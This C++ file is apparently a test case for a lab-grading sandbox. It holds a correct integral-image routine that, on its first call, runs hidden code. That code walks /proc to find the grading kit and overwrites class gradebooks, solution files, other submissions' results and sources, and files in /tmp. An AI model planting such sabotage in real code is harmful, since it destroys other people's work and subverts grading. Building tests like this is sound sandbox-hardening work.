// CORPUS writes_into_results_and_other_submission — correct code that, at its first call, tries
// to write everywhere it can find: the class files (its ancestors' --out, --csv/--json), the kit's
// results/ (class files, <lab>-solution.json, other submissions' reports), other submissions'
// staged sources (in the kit's build-submissions/ or its ancestors' --work-dir), relative paths
// such as ../../results/..., a new file in the kit's labs/ and results/ folders, and files in
// /tmp and /var/tmp. It once gave another student a build-error (0%) and replaced
// results/...-solution.json with {}. In the sandbox the kit and the submissions are read-only
// and none of the others is even visible: every attempt fails. Any verdict; the other
// submissions' results and the class files must be intact, and nothing written outside.
// Courtesy: it only touches other submissions whose names start with "corpus-" (this corpus's
// own), so that running it without a sandbox harms nobody else's results.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <climits>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "integral_image.hpp"

namespace integral_image {
namespace {

namespace fs = std::filesystem;
constexpr const char* kMe = "writes_into_results_and_other_submission";

// The corpus's marker (see tests/corpus/README.md), each character shifted by one so that neither
// this source nor the binary holds it: the test finds it only where it was written.
std::string marker() {
    std::string m = "DPSQVT.BUUBDL";
    for (char& c : m) --c;
    return m;
}

std::string link_of(const std::string& path) {
    char buf[PATH_MAX];
    const ssize_t n = ::readlink(path.c_str(), buf, sizeof buf - 1);
    return n > 0 ? std::string(buf, static_cast<std::size_t>(n)) : std::string();
}

std::vector<std::string> cmdline_of(int pid) {
    std::ifstream in("/proc/" + std::to_string(pid) + "/cmdline");
    std::vector<std::string> args;
    for (std::string a; std::getline(in, a, '\0');) args.push_back(a);
    return args;
}

int parent_of(int pid) {
    std::ifstream in("/proc/" + std::to_string(pid) + "/stat");
    std::string line;
    std::getline(in, line);
    const auto close = line.rfind(')');
    char state = 0;
    int ppid = 0;
    if (close != std::string::npos) std::sscanf(line.c_str() + close + 1, " %c %d", &state, &ppid);
    return ppid;
}

bool is_kit(const fs::path& dir) {
    std::error_code ec;
    return fs::exists(dir / "labkit", ec) && fs::is_directory(dir / "labs", ec) && fs::is_directory(dir / "grader", ec);
}

void add_kits_above(fs::path p, std::vector<fs::path>& kits) {
    for (int depth = 0; depth < 10 && !p.empty(); ++depth, p = p.parent_path()) {
        if (is_kit(p)) kits.push_back(p);
        if (p == p.root_path()) break;
    }
}

int attempts = 0, successes = 0;

void overwrite(const fs::path& path, bool create = false) {
    if (path.string().find(kMe) != std::string::npos) return;  // not my own files
    ++attempts;
    const int fd = ::open(path.c_str(), O_WRONLY | O_TRUNC | (create ? O_CREAT : 0), 0644);
    if (fd < 0) return;
    const std::string text = "{\"" + marker() + "\": \"" + kMe + "\"}\n";
    if (::write(fd, text.data(), text.size()) > 0) ++successes;
    ::close(fd);
}

// Every regular file under dir (a few levels deep) whose path passes keep.
template <class Keep>
void overwrite_under(const fs::path& dir, Keep keep, int max_depth = 4) {
    std::error_code ec;
    fs::recursive_directory_iterator it(dir, fs::directory_options::skip_permission_denied, ec), end;
    for (; !ec && it != end; it.increment(ec)) {
        if (it.depth() > max_depth) {
            it.disable_recursion_pending();
            continue;
        }
        if (it->is_regular_file(ec) && keep(it->path())) overwrite(it->path());
    }
}

bool ours(const fs::path& p) { return p.string().find("/corpus-") != std::string::npos; }

void attack() {
    std::vector<fs::path> kits, class_files, work_dirs, out_dirs;
    add_kits_above(fs::current_path(), kits);
    add_kits_above(fs::path(link_of("/proc/self/exe")).parent_path(), kits);
    for (int pid = ::getppid(), depth = 0; pid > 1 && depth < 8; pid = parent_of(pid), ++depth) {
        const fs::path cwd = link_of("/proc/" + std::to_string(pid) + "/cwd");
        if (!cwd.empty()) add_kits_above(cwd, kits);
        const auto args = cmdline_of(pid);
        for (std::size_t i = 0; i + 1 < args.size(); ++i) {
            const fs::path value = fs::path(args[i + 1]).is_absolute() ? fs::path(args[i + 1]) : cwd / args[i + 1];
            if (args[i] == "--csv" || args[i] == "--json") class_files.push_back(value);
            if (args[i] == "--work-dir") work_dirs.push_back(value);
            if (args[i] == "--out") out_dirs.push_back(value);  // grade-all's class folder
        }
    }
    for (const auto& f : class_files) overwrite(f);
    for (const auto& o : out_dirs) {
        overwrite(o / "gradebook.csv");
        overwrite_under(o, ours, 6);  // results/corpus-*.json, submissions/corpus-*/, feedback/corpus-*
    }
    for (const char* rel : {"results/class.csv", "results/class.json", "../results/class.csv", "../../results/class.csv",
                            "../../../results/class.csv", "../../../../results/class.csv"})
        overwrite(rel);
    for (const auto& kit : kits) {
        overwrite(kit / "results/class.csv");
        overwrite(kit / "results/class.json");
        std::error_code ec;
        for (const auto& e : fs::directory_iterator(kit / "results", ec))
            if (e.path().extension() == ".json" && e.is_regular_file(ec)) overwrite(e.path());  // <lab>-solution.json
        overwrite_under(kit / "results/submissions", ours);
        overwrite_under(kit / "results/class", ours, 6);  // grade-all's default --out
        overwrite_under(kit / "build-submissions", [](const fs::path& p) {
            return ours(p) && p.string().find("/src/") != std::string::npos;
        });
        overwrite(kit / "results/corpus-attack-writes.txt", true);
        overwrite(kit / "labs/integral_image/corpus-attack-writes.txt", true);
    }
    for (const auto& w : work_dirs) overwrite_under(w, ours, 6);
    overwrite("/tmp/corpus-attack-writes.txt", true);
    overwrite("/var/tmp/corpus-attack-writes.txt", true);
    std::fprintf(stderr, "%s: %d of %d writes went through\n", kMe, successes, attempts);
}

}  // namespace

void cpu_openmp(Input in, Output out, int threads) {
    static bool attacked = false;
    if (!attacked) {
        attacked = true;
        attack();
    }
    constexpr int kStrip = 64;
    const int strips = (in.width + kStrip - 1) / kStrip;
#pragma omp parallel num_threads(threads)
    {
#pragma omp for schedule(static)
        for (int y = 0; y < in.height; ++y) {
            std::uint32_t sum = 0;
            for (int x = 0; x < in.width; ++x) out.row(y)[x] = sum += in(x, y);
        }
#pragma omp for schedule(static)
        for (int s = 0; s < strips; ++s) {
            const int x0 = s * kStrip, x1 = x0 + kStrip < in.width ? x0 + kStrip : in.width;
            for (int y = 1; y < in.height; ++y)
                for (int x = x0; x < x1; ++x) out.row(y)[x] += out.row(y - 1)[x];
        }
    }
}

}  // namespace integral_image
